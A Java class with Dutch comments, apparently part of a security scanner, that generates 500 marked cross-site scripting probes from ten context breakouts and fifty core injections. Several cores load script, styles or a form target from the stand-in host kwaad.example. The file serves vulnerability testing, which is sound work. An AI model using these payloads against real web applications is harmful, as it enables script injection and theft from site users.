package nl.zorginkoop.launcher;

import java.util.ArrayList;
import java.util.List;

/**
 * Vijfhonderd manieren om van tekst een programma te maken: vijftig kernen, elk op tien manieren
 * uit zijn omgeving gebroken. Elke list draagt een merk ({@code zi17f3x}: list 17, veld 3) en wil
 * een venster openen, een element met {@code zixss} maken, of een uitdrukking laten uitrekenen.
 */
public final class Scriptlist {

    /** Komt op de plaats van het merk. */
    private static final String MERK = "@M@";

    private static final List<String> UITBRAKEN =
            List.of(
                    "",
                    "\">",
                    "'>",
                    "</td></tr></table>",
                    "</textarea>",
                    "</title>",
                    "-->",
                    "]]>",
                    "</script>",
                    "\\\"';");

    private static final List<String> KERNEN =
            List.of(
                    "<script zixss>alert('@M@')</script>",
                    "<ScRiPt zixss>alert('@M@')</sCrIpT>",
                    "<script zixss src=//kwaad.example/@M@.js></script>",
                    "<script zixss src=data:,alert('@M@')></script>",
                    "<script\n zixss>alert('@M@')</script\n>",
                    "<script/x zixss>alert('@M@')</script>",
                    "<<script zixss>alert('@M@')//<</script>",
                    "<scr<script>ipt zixss>alert('@M@')</scr</script>ipt>",
                    "<img src=x onerror=alert('@M@') zixss>",
                    "<img/src/onerror=alert('@M@')/zixss>",
                    "<IMG SRC=x ONERROR=\"alert('@M@')\" zixss>",
                    "<img src=x onerror=&#97;lert('@M@') zixss>",
                    "<img src=`x`onerror=alert('@M@') zixss>",
                    "<svg onload=alert('@M@') zixss>",
                    "<svg/onload=alert('@M@')//zixss>",
                    "<svg zixss><script>alert('@M@')</script></svg>",
                    "<svg zixss><animate onbegin=alert('@M@') attributeName=x dur=1s>",
                    "<svg zixss><use href=data:image/svg+xml,@M@#x></svg>",
                    "<math zixss><mtext><img src=x onerror=alert('@M@')></math>",
                    "<iframe src=javascript:alert('@M@') zixss></iframe>",
                    "<iframe srcdoc=\"<script>parent.alert('@M@')</script>\" zixss></iframe>",
                    "<object data=javascript:alert('@M@') zixss></object>",
                    "<embed src=javascript:alert('@M@') zixss>",
                    "<body onload=alert('@M@') zixss>",
                    "<body onpageshow=alert('@M@') zixss>",
                    "<input autofocus onfocus=alert('@M@') zixss>",
                    "<select autofocus onfocus=alert('@M@') zixss>",
                    "<textarea autofocus onfocus=alert('@M@') zixss>",
                    "<details open ontoggle=alert('@M@') zixss>",
                    "<video src=x onerror=alert('@M@') zixss></video>",
                    "<video zixss><source onerror=alert('@M@')></video>",
                    "<audio src=x onerror=alert('@M@') zixss></audio>",
                    "<marquee onstart=alert('@M@') zixss>x</marquee>",
                    "<style zixss>*{background:url(//kwaad.example/@M@)}</style>",
                    "<link zixss rel=stylesheet href=//kwaad.example/@M@.css>",
                    "<base zixss href=//kwaad.example/@M@/>",
                    "<meta zixss http-equiv=refresh content=\"0;url=javascript:alert('@M@')\">",
                    "<form zixss action=//kwaad.example/@M@><button autofocus>x",
                    "<a zixss href=javascript:alert('@M@')>klik</a>",
                    "<div zixss style=animation-name:x onanimationstart=alert('@M@')></div>",
                    "\" onmouseover=alert('@M@') zixss=\"",
                    "' onfocus=alert('@M@') autofocus zixss='",
                    "\" style=position:fixed onclick=alert('@M@') zixss x=\"",
                    "javascript:alert('@M@')",
                    "data:text/html,<script zixss>alert('@M@')</script>",
                    "#{'ziel@M@'.toUpperCase()}",
                    "${'ziel@M@'.toUpperCase()}",
                    "&lt;script zixss&gt;alert('@M@')&lt;/script&gt;",
                    "\u003cscript zixss\u003ealert('@M@')\u003c/script\u003e",
                    "\u202e<img src=x onerror=alert('@M@') zixss>\u2028-");

    private Scriptlist() {}

    public static int aantal() {
        return KERNEN.size() * UITBRAKEN.size();
    }

    /** De zoveelste list, gemerkt voor dit veld. De eerste vijftig hebben elk een andere kern. */
    public static String van(int nummer, int veld) {
        String kern = KERNEN.get(nummer % KERNEN.size());
        String uitbraak = UITBRAKEN.get(nummer / KERNEN.size());
        return uitbraak + kern.replace(MERK, "zi" + nummer + "f" + veld + "x");
    }

    /** Zoveel listen achter elkaar, om op één plek te tonen. */
    public static String reeks(int vanaf, int hoeveel, int tot, int veld) {
        List<String> delen = new ArrayList<>();
        for (int i = 0; i < hoeveel; i++) {
            delen.add(van((vanaf + i) % tot, veld));
        }
        return String.join(" ", delen);
    }
}
